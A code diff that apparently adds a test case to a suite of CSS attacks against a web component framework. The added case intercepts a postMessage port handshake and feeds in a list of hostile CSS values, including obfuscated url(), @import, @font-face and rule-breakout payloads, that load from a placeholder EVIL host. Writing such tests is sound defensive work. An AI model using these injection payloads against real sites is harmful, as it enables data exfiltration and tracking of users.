@@ -52,4 +52,30 @@ export const CSS: readonly Attack[] = [
       whenHosts(() => { for (const host of document.querySelectorAll('shoji-card')) for (const property of ['accentColor', 'caretColor', 'colorScheme', 'fontFamily', 'fontVariantNumeric', 'letterSpacing'])
         host.style[property] = property === 'fontFamily' ? '"a\\\\";}*{background:' + address + '}"' : address; });`,
   },
+  {
+    id: 'css-port',
+    what: 'takes the port and sends the frame styles of its own: addresses, ways out of a value, a rule or a text, imports, fonts, unknown properties',
+    aim: 'reading',
+    control: 'reads',
+    alone: true,
+    script: `${wear}
+      wear('naive-card::part(number) { background-image: url("' + EVIL + '/control") }');
+      const at = EVIL + '/genuine';
+      const hostile = ['url(' + at + ')', 'url("' + at + '")', "url('" + at + "')", 'image-set("' + at + '" 1x)', 'cross-fade(url(' + at + '), red)', 'red; background: url(' + at + ')',
+        'red } * { background: url(' + at + ') } a {', 'red !important; background-image: url(' + at + ')', '"a"; background: url(' + at + ')', 'red } @import "' + at + '"; a {',
+        'red } @font-face { font-family: a; src: url(' + at + ') } * { font-family: a } a {', 'var(--x, url(' + at + '))', '\\75rl(' + at + ')', 'URL(' + at + ')', 'u/**/rl(' + at + ')',
+        'src("' + at + '")', 'element(#number)', 'paint(x)', 'env(x, url(' + at + '))'];
+      const names = ['color', 'font-family', 'accent-color', 'color-scheme', 'background-image', 'background', 'list-style-image', 'border-image-source', 'cursor', 'content', 'mask-image', 'filter', '--x', 'quotes', 'src'];
+      const styles = hostile.map((value) => Object.fromEntries(names.map((name) => [name, value])));
+      const original = window.postMessage;
+      window.postMessage = function (data, origin, transfer) {
+        const port = transfer?.[0];
+        if (!(port instanceof MessagePort) || data?.type !== 'init') return original.apply(this ?? window, arguments);
+        const { port1, port2 } = new MessageChannel();
+        port.onmessage = ({ data: message }) => port1.postMessage(message);
+        port1.onmessage = ({ data: message }) => port.postMessage(message);
+        moment(async () => { for (const style of styles) port1.postMessage({ type: 'style', style }); await new Promise((done) => setTimeout(done, 200)); });
+        return original.call(this, { ...data, style: styles[0] }, origin, [port2]);
+      };`,
+  },
 ];
